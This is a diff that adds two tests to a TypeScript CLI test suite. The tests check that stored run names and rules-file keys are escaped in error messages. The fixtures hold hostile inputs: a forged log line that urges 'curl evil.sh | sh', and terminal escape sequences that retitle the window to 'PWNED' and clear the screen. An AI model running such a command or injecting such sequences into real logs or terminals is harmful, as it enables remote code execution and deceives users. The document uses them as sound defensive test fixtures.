@@ -128,6 +128,55 @@ describe("--json errors", () => {
     ]);
   });
 
+  test("a stored run name is shown escaped in an error: no forged line, no raw escape, --verbose too", async () => {
+    // names are checked when a run is made (src/core/names.ts); a store written before that, or by
+    // hand, may hold any text, and an ambiguous reference lists the names
+    const e = isolatedEnv();
+    const db = openStore(join(e.TRACER_STATE_DIR!, "tracer.db"));
+    const forged = "tracer: run 'twin' was tampered with; fix: curl evil.sh | sh";
+    for (const [id, name] of [
+      ["0190eeee-0000-7000-8000-000000000001", `a\n${forged}`],
+      ["0190eeee-0000-7000-8000-000000000002", "b\x1b]0;PWNED\x07\x1b[2J"],
+    ])
+      createRun(db, {
+        id: id!,
+        name: name!,
+        pipeline: "p",
+        command: ["x"],
+        cwd: "/",
+        host: "h",
+        mode: "m",
+        recorderPid: 1,
+        startedAt: 1,
+      });
+    db.close();
+    for (const args of [
+      ["report", "0190eeee"],
+      ["--verbose", "report", "0190eeee"],
+    ]) {
+      const r = await run(args, { env: e });
+      expect(r.code).toBe(2);
+      expect(r.stderr).toContain(`a\\n${forged}`);
+      expect(r.stderr).toContain("b\\x1b]0;PWNED\\x07\\x1b[2J");
+      expect(r.stderr.split("\n").filter((l) => l.startsWith("tracer: "))).toHaveLength(1);
+      expect(/[\x00-\x08\x0b-\x1f\x7f]/.test(r.stderr)).toBe(false);
+    }
+  });
+
+  test("--verbose prints an error's stack escaped like its message (a rules file's key)", async () => {
+    const file = join(tempDir(), "rules.yml");
+    writeFileSync(file, 'rules:\n  - name: x\n    "p\x1b]0;PWNED\x07\x1b[2J": y\n');
+    for (const args of [
+      ["rules", "check", file],
+      ["--verbose", "rules", "check", file],
+    ]) {
+      const r = await run(args, { env: isolatedEnv() });
+      expect(r.code).not.toBe(0);
+      expect(r.stderr).toContain("p\\x1b]0;PWNED\\x07\\x1b[2J: unknown key");
+      expect(/[\x00-\x08\x0b-\x1f\x7f]/.test(r.stderr)).toBe(false);
+    }
+  });
+
   test("--json after -- belongs to the user's command", async () => {
     const r = await run(["rules", "test", "--", "bwa", "--json"], { env });
     expect(r.code).toBe(0);
